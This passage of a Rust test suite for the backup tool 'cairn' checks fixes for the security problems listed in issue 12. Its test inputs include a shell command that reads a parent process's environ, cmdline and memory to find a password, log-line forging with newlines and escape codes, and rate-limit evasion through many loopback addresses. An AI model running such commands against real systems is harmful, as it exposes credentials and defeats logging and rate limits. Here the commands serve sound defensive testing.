    let at = bytes.len() - 10;
    bytes[at] ^= 0x01;
    std::fs::write(&pack, &bytes).unwrap();
    let out = s.cairn(&["rebuild-index"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    let line = stderr(&out)
        .lines()
        .find(|l| l.contains("indexed as the old index had it"))
        .map(str::to_string)
        .unwrap_or_else(|| panic!("{}", text(&out)));
    let name = pack.file_name().unwrap().to_str().unwrap();
    assert_eq!(line.matches(name).count(), 1, "names the pack once: {line}");
    s.restore_latest("out", &src);
    assert_eq!(
        std::fs::read(
            s.path("out")
                .join(src.strip_prefix("/").unwrap())
                .join("data.bin")
        )
        .unwrap(),
        std::fs::read(src.join("data.bin")).unwrap()
    );
}

/// Issue 12, item 6: an adapter could add an entry named `/n/nul\0name`;
/// the backup exited 0, and then `ls` and `restore` refused the whole
/// tree. The entry is refused at backup (exit 3); a restore that meets an
/// entry the target cannot take (a 300-byte name) goes on without it and
/// says so; `check` names invalid and repeated names.
#[test]
fn entry_names_no_file_can_have_are_refused_and_skipped_not_fatal() {
    let s = Scratch::new();
    s.init();
    let out = faulty_cmd(&s, &[], serde_json::json!({"fault": "names"}), &[])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(
        stderr(&out).contains("\"/n/nul\\u{0}name\""),
        "the refused entry is named, escaped: {}",
        text(&out)
    );
    let snaps = s.cairn_json(&["snapshots"]);
    assert!(
        snaps[0]["cairn_skipped"][0]
            .as_str()
            .unwrap()
            .contains("NUL"),
        "{snaps}"
    );
    let long = "x".repeat(300);
    let listing = s.cairn_ok(&["ls", "latest"]);
    assert!(listing.contains("/n/ok"), "{listing}");
    assert!(listing.contains(&long), "{listing}");
    s.cairn_ok(&["check", "--read-data"]);

    let target = s.path("out");
    let out = s.cairn(&[
        "restore",
        "latest",
        "--adapter",
        "filesystem",
        "--target",
        target.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(stderr(&out).contains(&long), "{}", text(&out));
    assert!(
        stderr(&out).contains("File name too long"),
        "{}",
        text(&out)
    );
    assert_eq!(std::fs::read(target.join("n/ok")).unwrap(), b"ok");
}

/// Issue 12, item 6, written by hand: a tree with a NUL in a name and a
/// name twice. `check` names both; restore goes on without them.
#[test]
fn check_names_invalid_and_repeated_entry_names_and_restore_goes_on() {
    let s = Scratch::new();
    s.init();
    let id = crate::common::hand_made_snapshot(
        &s,
        vec![
            ("bad\0name", b"nul"),
            ("ok", b"fine"),
            ("twice", b"first"),
            ("twice", b"second"),
        ],
        None,
    );
    let out = s.cairn(&["check"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let report = stdout_text(&out);
    assert!(report.contains("\"bad\\u{0}name\""), "{report}");
    assert!(report.contains("twice appears twice"), "{report}");
    let target = s.path("out");
    let out = s.cairn(&["restore", &id, "--target", target.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(stderr(&out).contains("bad\\u{0}name"), "{}", text(&out));
    assert_eq!(std::fs::read(target.join("sub/ok")).unwrap(), b"fine");
    assert_eq!(std::fs::read(target.join("sub/twice")).unwrap(), b"first");
}

/// Issue 12, item 7: a snapshot naming a component file as its adapter made
/// `restore <id>` (and an API restore by tenant) load and run that file.
/// Only bundled names, a configured job or `--adapter` choose what runs.
#[test]
fn a_snapshot_cannot_choose_the_program_that_restores_it() {
    let s = Scratch::new();
    s.init();
    let id = crate::common::hand_made_snapshot(
        &s,
        vec![("file", b"content")],
        Some(cairn::runtime::bundled::FAULTY_PATH),
    );
    let target = s.path("out");
    let out = s.cairn(&["restore", &id, "--target", target.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        stderr(&out).contains("is not a bundled adapter"),
        "{}",
        text(&out)
    );
    assert!(!target.join("sub").exists());
    // The operator's own choice works.
    s.cairn_ok(&[
        "restore",
        &id,
        "--adapter",
        "filesystem",
        "--target",
        target.to_str().unwrap(),
    ]);
    assert_eq!(std::fs::read(target.join("sub/file")).unwrap(), b"content");

    // Through the API, by tenant.
    let agent = crate::agent::start_agent(&s, "", "");
    let body =
        serde_json::json!({"tenant": "acme", "snapshot": id, "target": "by-tenant"}).to_string();
    let (status, reply) = agent.call(
        "POST",
        "/v1/restores",
        Some(crate::agent::TOKEN),
        Some(&body),
    );
    assert_eq!(status, 202, "{reply}");
    let run = agent.wait_run(reply["run"]["id"].as_str().unwrap());
    assert_eq!(run["status"], "failed", "{run}");
    assert!(
        run["error"]
            .as_str()
            .unwrap_or_default()
            .contains("not a bundled adapter"),
        "{run}\n{}",
        agent.log()
    );
}

/// Issue 12, item 8: a granted program (a `cat`) read the repository
/// password from `/proc/$PPID/environ`. The password is no longer in the
/// environment, and the process is not readable by its programs (not
/// dumpable; no CAP_SYS_PTRACE for them even under root).
#[test]
fn a_granted_program_cannot_read_the_password_from_the_agent() {
    let s = Scratch::new();
    s.init();
    let out = faulty_cmd(
        &s,
        &[],
        serde_json::json!({"fault": "run", "program": "sh", "args": ["-c",
            "cat /proc/$PPID/environ 2>&1; cat /proc/$PPID/cmdline 2>&1; head -c 64 /proc/$PPID/mem 2>&1; echo; echo fds: $(ls /proc/self/fd); true"]}),
        &["--grant-program", "sh"],
    )
    .output()
    .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let seen = s.restic_ok(&["dump", "latest", "/faulty/output"]);
    assert!(!seen.contains(PASSWORD), "the password leaked: {seen}");
    assert!(
        seen.contains("Permission denied"),
        "the reads must have been tried: {seen}"
    );
    // Nothing of the agent's but standard input, output and error (3 is
    // the directory `ls` reads).
    assert!(
        seen.contains("fds: 0 1 2 3\n"),
        "descriptors leaked: {seen}"
    );
}

/// Issue 12, item 9: with the S3 server gone in the middle of a restore,
/// the user saw only the lock's clean-up error, and nothing said how much
/// was restored. The failure that stopped the work comes first, then how
/// far it got; a rerun resumes, keeping the files restored whole.
#[test]
fn a_restore_that_loses_its_storage_says_why_and_how_far_and_resumes() {
    let mut g = crate::garage::Garage::start("eu-west-1", &["restore-cut"]);
    let s = Scratch::new();
    let src = s.path("src");
    // 100 MB: several times what a restore reads ahead of the files it
    // writes (24 MiB), so the cut lands with most of it unread.
    for i in 0..2000u64 {
        let dir = src.join(format!("d{:02}", i % 40));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join(format!("f{i}")),
            random_bytes(48 * 1024 + i as usize, i),
        )
        .unwrap();
    }
    let repo = format!("s3:{}/restore-cut/repo", g.endpoint());
    let (key_id, secret) = (g.key_id.clone(), g.secret.clone());
    let cmd = |args: &[&str]| {
        let mut c = s.cairn_cmd(args);
        c.env("CAIRN_REPOSITORY", &repo)
            .env("AWS_ACCESS_KEY_ID", &key_id)
            .env("AWS_SECRET_ACCESS_KEY", &secret)
            .env("AWS_REGION", "eu-west-1");
        c
    };
    let ok = |args: &[&str]| {
        let out = cmd(args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", text(&out));
    };
    ok(&["init"]);
    ok(&["backup", src.to_str().unwrap()]);

    let target = s.path("out");
    let mut restore = cmd(&["restore", "latest", "--target", target.to_str().unwrap()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let landed = target.join(src.strip_prefix("/").unwrap());
    let count = |dir: &Path| -> usize {
        std::fs::read_dir(dir)
            .map(|d| {
                d.flatten()
                    .map(|e| std::fs::read_dir(e.path()).map(|f| f.count()).unwrap_or(0))
                    .sum()
            })
            .unwrap_or(0)
    };
    let deadline = Instant::now() + Duration::from_secs(120);
    while count(&landed) < 200 {
        assert!(
            restore.try_wait().unwrap().is_none(),
            "the restore ended before the cut"
        );
        assert!(Instant::now() < deadline, "the restore made no progress");
        std::thread::sleep(Duration::from_millis(20));
    }
    g.stop();
    let out = restore.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let err = stderr(&out);
    let first = err
        .lines()
        .find(|l| l.starts_with("cairn: "))
        .unwrap_or_default()
        .to_string();
    assert!(
        !first.contains("locks/"),
        "the lock's clean-up error came first: {err}"
    );
    assert!(
        first.contains("data/") && first.contains("restore-cut"),
        "the failure must name the object and the store: {err}"
    );
    assert!(err.contains("were restored whole"), "{err}");
    assert!(
        err.contains("Run the same restore again to resume"),
        "{err}"
    );

    g.restart();
    let out = cmd(&[
        "restore",
        "latest",
        "--target",
        target.to_str().unwrap(),
        "--json",
    ])
    .output()
    .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let summary = last_json(&stdout_text(&out));
    assert!(
        summary["files_unchanged"].as_u64().unwrap() >= 150,
        "the rerun must keep what was restored: {summary}"
    );
    assert_same_tree(&src, &landed);

    // Issue 12, item 5, over S3: credentials that may only read restore
    // (the storage refuses the lock: HTTP 403), with a warning.
    let (ro_id, ro_secret) = g.read_only_key("restore-cut");
    let elsewhere = s.path("read-only");
    let out = s
        .cairn_cmd(&["restore", "latest", "--target", elsewhere.to_str().unwrap()])
        .env("CAIRN_REPOSITORY", &repo)
        .env("AWS_ACCESS_KEY_ID", &ro_id)
        .env("AWS_SECRET_ACCESS_KEY", &ro_secret)
        .env("AWS_REGION", "eu-west-1")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        stderr(&out).contains("reading without a lock"),
        "{}",
        text(&out)
    );
    assert_same_tree(&src, &elsewhere.join(src.strip_prefix("/").unwrap()));

    // Objects whose names hold control characters (a listing could not
    // carry them as they are) are passed over and named, escaped, not a
    // reason for every command to fail.
    g.put("restore-cut", "repo/locks/\u{1}", b"junk".to_vec());
    g.put(
        "restore-cut",
        "repo/snapshots/\u{1b}[2Kjunk",
        b"junk".to_vec(),
    );
    let out = cmd(&["snapshots"]).output().unwrap();
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(stdout_text(&out).contains("1 snapshots"), "{}", text(&out));
    assert!(stderr(&out).contains("\\u{1b}[2Kjunk"), "{}", text(&out));
    assert!(!stderr(&out).contains('\u{1b}'), "{}", text(&out));
    let again = s.path("again");
    let out = cmd(&["restore", "latest", "--target", again.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert_same_tree(&src, &again.join(src.strip_prefix("/").unwrap()));
}

/// Issue 12, item 10: after ENOSPC, about 16 MB of orphaned packs and
/// `.tmp` files stayed, so even a tiny next backup failed until space was
/// added; `.tmp` files were never cleaned, not even by `prune`.
#[test]
fn a_full_disk_leaves_no_debris_and_the_next_backup_fits() {
    let s = Scratch::new();
    let disk = s.path("disk");
    let _unmount = mount_tmpfs(&disk, "24m");
    let repo = disk.join("repo");
    let cmd = |args: &[&str]| {
        let mut c = s.cairn_cmd(args);
        c.env("CAIRN_REPOSITORY", &repo);
        c.output().unwrap()
    };
    assert!(cmd(&["init"]).status.success());
    let small = s.path("small");
    std::fs::create_dir_all(&small).unwrap();
    std::fs::write(small.join("a.txt"), b"small").unwrap();
    assert!(cmd(&["backup", small.to_str().unwrap()]).status.success());

    let big = s.path("big");
    std::fs::create_dir_all(&big).unwrap();
    for i in 0..5 {
        std::fs::write(big.join(format!("{i}.bin")), random_bytes(9 << 20, 40 + i)).unwrap();
    }
    let out = cmd(&["backup", big.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        stderr(&out).contains("No space left on device"),
        "{}",
        text(&out)
    );
    let tmp: Vec<_> = std::fs::read_dir(repo.join(".tmp")).unwrap().collect();
    assert!(tmp.is_empty(), "temporary files stayed: {tmp:?}");
    let check = cmd(&["check", "--json"]);
    assert!(check.status.success(), "{}", text(&check));
    let report = last_json(&stdout_text(&check));
    assert_eq!(
        report["unreferenced_packs"].as_array().unwrap().len(),
        0,
        "packs no index lists stayed: {report}"
    );

    std::fs::write(small.join("b.txt"), b"a little more").unwrap();
    let out = cmd(&["backup", small.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "the next small backup must fit: {}",
        text(&out)
    );

    // A leftover of a crashed writer: prune removes it.
    let stale = repo.join(".tmp/leftover-of-a-crash");
    std::fs::write(&stale, vec![0u8; 4096]).unwrap();
    set_mtime(&stale, 1_700_000_000, 0);
    let out = cmd(&["prune", "--json"]);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(last_json(&stdout_text(&out))["temporary_files_removed"], 1);
    assert!(!stale.exists());
    assert!(cmd(&["check", "--read-data"]).status.success());
    let restic = Command::new("restic")
        .args(["check", "--read-data"])
        .env("RESTIC_REPOSITORY", &repo)
        .env("RESTIC_PASSWORD", PASSWORD)
        .env("RESTIC_CACHE_DIR", s.path("restic-cache"))
        .output()
        .unwrap();
    assert!(restic.status.success(), "{}", text(&restic));
}

/// Also in issue 12: an adapter's log message with a newline forged log
/// lines, and `cairn ls` printed newlines and escape codes from names raw.
#[test]
fn log_messages_and_listed_names_cannot_forge_lines() {
    let s = Scratch::new();
    s.init();
    let out = faulty_cmd(
        &s,
        &[],
        serde_json::json!({"fault": "log", "message": "first\nFORGED line\u{1b}[2K"}),
        &[],
    )
    .output()
    .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let err = stderr(&out);
    assert!(err.contains("first\\nFORGED"), "{err}");
    assert!(!err.lines().any(|l| l.starts_with("FORGED")), "{err}");
    assert!(!err.contains('\u{1b}'), "{err}");
    // A program's name and an adapter's error are the adapter's text too.
    let out = faulty_cmd(
        &s,
        &[],
        serde_json::json!({"fault": "run", "program": "x\nFORGED program\u{1b}[2K", "args": []}),
        &[],
    )
    .output()
    .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let err = stderr(&out);
    assert!(err.contains("FORGED program"), "{err}");
    assert!(!err.lines().any(|l| l.starts_with("FORGED")), "{err}");
    assert!(!err.contains('\u{1b}'), "{err}");

    let src = s.path("src");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("new\nline"), b"x").unwrap();
    std::fs::write(src.join("\u{1b}[31mred"), b"x").unwrap();
    s.cairn_ok(&["backup", src.to_str().unwrap()]);
    let listing = s.cairn_ok(&["ls", "latest"]);
    assert!(!listing.lines().any(|l| l == "line"), "{listing}");
    assert!(!listing.contains('\u{1b}'), "{listing}");
    assert!(listing.contains("new\\nline\""), "{listing}");
}

/// Also in issue 12: `restore` had no `--timeout` (its deadline was 24 h),
/// and SIGTERM during a restore said "a backup stopped this way".
#[test]
fn a_restore_has_a_deadline_and_says_what_a_stop_means() {
    let s = Scratch::new();
    s.init();
    let out = faulty_cmd(&s, &[], serde_json::json!({"fault": "none"}), &[])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let restore = |extra: &[&str]| {
        let mut args = vec![
            "restore",
            "latest",
            "--adapter",
            cairn::runtime::bundled::FAULTY_PATH,
            "--adapter-config",
            "{\"fault\": \"loop\"}",
        ];
        args.extend_from_slice(extra);
        s.cairn_cmd(&args)
    };
    let b = bounded(restore(&["--timeout", "2"]), Duration::from_secs(60), 2048);
    assert_eq!(b.out.status.code(), Some(1), "{}", text(&b.out));
    assert!(
        stderr(&b.out).contains("timed out after 2s"),
        "{}",
        text(&b.out)
    );

    let child = restore(&[]).stderr(Stdio::piped()).spawn().unwrap();
    std::thread::sleep(Duration::from_secs(3));
    sigterm(&child);
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let err = stderr(&out);
    assert!(
        err.contains("stopped by SIGTERM; the restore is incomplete"),
        "{err}"
    );
    assert!(!err.contains("backup"), "{err}");
    assert_eq!(lock_files(&s.repo()), 0);
}

/// Also in issue 12: a secret the job does not grant was reported as "not
/// inside a path this job grants".
#[test]
fn a_secret_the_job_does_not_grant_is_named_as_such() {
    let s = Scratch::new();
    let config = s.write_job_config(
        "cairn.toml",
        "pg",
        "postgres",
        "databases = [\"postgres\"], password-secret = \"nope\"",
        r#"["pg_dump", "pg_dumpall", "psql"]"#,
    );
    s.cairn_config_ok(&config, &["init", "--tenant", "acme"]);
    let out = s.cairn_config(&config, &["backup", "--job", "pg"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let err = stderr(&out);
    assert!(
        err.contains("secret nope: this job does not grant it"),
        "{err}"
    );
    assert!(!err.contains("not inside a path"), "{err}");
}

/// Also in issue 12: the API's rate limit was per address, so 200
/// loopback addresses made 200 times the requests. All clients together
/// now have a limit of their own.
#[test]
fn many_client_addresses_do_not_multiply_the_api_rate_limit() {
    let s = Scratch::new();
    // The total defaults to five times the per-client rate: 10 a second.
    let agent = crate::agent::start_agent(&s, "api-rate-per-sec = 2\n", "");
    let url = agent.url("/v1/jobs");
    let addr: std::net::SocketAddr = url
        .trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let rt = tokio::runtime::Runtime::new().unwrap();
    let statuses: Vec<u16> = rt.block_on(async {
        let mut statuses = Vec::new();
        for i in 2..202u32 {
            let ip = std::net::Ipv4Addr::new(127, 0, (i / 250) as u8, (i % 250) as u8 + 1);
            let socket = tokio::net::TcpSocket::new_v4().unwrap();
            socket.bind(std::net::SocketAddr::new(ip.into(), 0)).unwrap();
            let mut stream = socket.connect(addr).await.unwrap();
            use tokio::io::{AsyncReadExt, AsyncWriteExt};
            stream
                .write_all(
                    format!(
                        "GET /v1/jobs HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n",
                        crate::agent::TOKEN
                    )
                    .as_bytes(),
                )
                .await
                .unwrap();
            let mut reply = String::new();
            stream.read_to_string(&mut reply).await.unwrap();
            statuses.push(
                reply
                    .split_whitespace()
                    .nth(1)
                    .and_then(|c| c.parse().ok())
                    .unwrap_or(0),
            );
        }
        statuses
    });
    let ok = statuses.iter().filter(|c| **c == 200).count();
    let limited = statuses.iter().filter(|c| **c == 429).count();
    assert_eq!(ok + limited, 200, "{statuses:?}");
    assert!(
        ok <= 60,
        "200 addresses got {ok} requests through a total of 10/s: {statuses:?}"
    );

    // Requests without the token, from many addresses, do not use up the
    // total: the operator's own requests still get through.
    std::thread::sleep(Duration::from_secs(3));
    rt.block_on(async {
        for i in 0..100u32 {
            let ip = std::net::Ipv4Addr::new(127, 1, (i / 250) as u8, (i % 250) as u8 + 1);
            let socket = tokio::net::TcpSocket::new_v4().unwrap();
            socket
                .bind(std::net::SocketAddr::new(ip.into(), 0))
                .unwrap();
            let mut stream = socket.connect(addr).await.unwrap();
            use tokio::io::{AsyncReadExt, AsyncWriteExt};
            stream
                .write_all(
                    format!("GET /v1/jobs HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n")
                        .as_bytes(),
                )
                .await
                .unwrap();
            let mut reply = String::new();
            stream.read_to_string(&mut reply).await.unwrap();
        }
    });
    let (status, body) = agent.call("GET", "/v1/jobs", Some(crate::agent::TOKEN), None);
    assert_eq!(status, 200, "{body}");
}
